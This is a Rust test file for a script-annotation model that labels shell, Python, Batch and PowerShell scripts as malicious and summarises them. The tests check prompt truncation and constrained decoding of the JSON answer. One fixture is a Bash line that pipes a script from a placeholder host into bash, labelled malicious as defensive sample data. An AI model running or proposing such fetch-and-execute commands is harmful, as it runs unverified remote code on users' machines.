//! Training examples are what inference sees and emits: the prompt is the annotation
//! prompt token for token (truncation included), and the answer tokens are a path the
//! constrained decoder allows at every step, ending in an answer that parses back to the
//! reference. Uses the real model's tokenizer.

use automaldesc_common::Language;
use automaldesc_runtime::generate::schema::Next;
use automaldesc_runtime::generate::{AnswerState, Vocab};
use automaldesc_runtime::runtime::Annotator;
use automaldesc_runtime::train::data::{render, Budget};
use burn::tensor::Device;

mod support;
use support::model_path;

/// Replays `target` through the schema; panics at the first token the decoder would not
/// allow. Returns the final state.
fn replay(annotator: &Annotator, target: &[u32]) -> AnswerState {
    let schema = &annotator.schema;
    let mut state = AnswerState::new();
    for (i, &tok) in target.iter().enumerate() {
        let allowed = match state.next(schema) {
            Next::Forced(t) => t == tok,
            Next::Language(set) => set.contains(&tok),
            Next::Label(set) => set.contains(&tok),
            Next::Summary(s) => schema.string_allowed(s).contains(&tok),
            Next::Done => false,
        };
        assert!(
            allowed,
            "token {i} ({tok} = {:?}) is not allowed at {:?}",
            annotator.tokenizer.decode(&[tok]),
            state.next(schema)
        );
        state.advance(schema, tok);
    }
    state
}

#[test]
fn examples_follow_the_inference_prompt_and_the_answer_schema() {
    let Some(path) = model_path() else {
        return;
    };
    let annotator = Annotator::load(&path, &Device::flex()).unwrap();
    let cases: [(&[u8], Language, bool, &str); 4] = [
        (
            b"#!/bin/bash\ncurl -s http://x.example/p.sh | bash\n",
            Language::Bash,
            true,
            "Downloads a script and pipes it to \"bash\" \\ runs it.\nNo checks.",
        ),
        (
            b"print('hello')\n",
            Language::Python,
            false,
            "Prints a greeting: ünïcode 日本 🎉 and a tab\t.",
        ),
        (b"@echo off\r\ndir C:\\\r\n", Language::Batch, false, ""),
        (b"Write-Host 'hi'", Language::Powershell, true, "Short."),
    ];
    let budget = Budget {
        prompt: 1024,
        answer: 256,
        summary: None,
    };
    for (script, language, malicious, summary) in cases {
        let r = render(&annotator, script, language, malicious, summary, budget).unwrap();
        assert!(!r.cut);
        let ex = r.example;
        assert_eq!(
            ex.prompt,
            annotator.annotation_prompt(script, budget.prompt).tokens
        );
        let state = replay(&annotator, &ex.target);
        assert!(state.is_done(), "the answer ends with the end of turn");
        let json: serde_json::Value = serde_json::from_str(&state.to_json()).unwrap();
        assert_eq!(json["language"], language.as_str());
        assert_eq!(json["label"], u8::from(malicious));
        assert_eq!(json["summary"], summary);
    }

    // A long script is truncated as at inference; a long summary is cut and left open.
    let long_script = "echo line\n".repeat(2000);
    let long_summary = "This script does many things. ".repeat(100);
    let budget = Budget {
        prompt: 256,
        answer: 64,
        summary: None,
    };
    let r = render(
        &annotator,
        long_script.as_bytes(),
        Language::Bash,
        false,
        &long_summary,
        budget,
    )
    .unwrap();
    assert!(
        r.cut,
        "the answer budget cut this target, and it is counted"
    );
    let ex = r.example;
    let prompt = annotator.annotation_prompt(long_script.as_bytes(), 256);
    assert!(prompt.truncated.is_some());
    assert_eq!(ex.prompt, prompt.tokens);
    assert!(ex.prompt.len() <= 256);
    assert_eq!(ex.target.len(), 64);
    let state = replay(&annotator, &ex.target);
    assert!(state.has_label() && !state.is_done());
    let text = String::from_utf8(state.summary_raw.clone()).unwrap();
    assert!(
        long_summary.starts_with(&text) && text.len() > 100,
        "{text:?}"
    );
    // A long summary cut to `summary_tokens` ends at a whole sentence, and the answer closes.
    let budget = Budget {
        prompt: 256,
        answer: 128,
        summary: Some(40),
    };
    let r = render(
        &annotator,
        long_script.as_bytes(),
        Language::Bash,
        true,
        &long_summary,
        budget,
    )
    .unwrap();
    assert!(!r.cut, "a cut summary fits the answer budget");
    let state = replay(&annotator, &r.example.target);
    assert!(state.is_done(), "the answer is closed");
    let json: serde_json::Value = serde_json::from_str(&state.to_json()).unwrap();
    let summary = json["summary"].as_str().unwrap();
    assert!(
        summary.ends_with("things.") && long_summary.starts_with(summary),
        "{summary:?}"
    );
    assert!(summary.len() > 60, "{summary:?}");
    // The tokenizer the examples were made with is the runtime's.
    assert_eq!(
        annotator.tokenizer.encode_plain("Short."),
        annotator.tokenizer.encode("Short.").unwrap()
    );
}
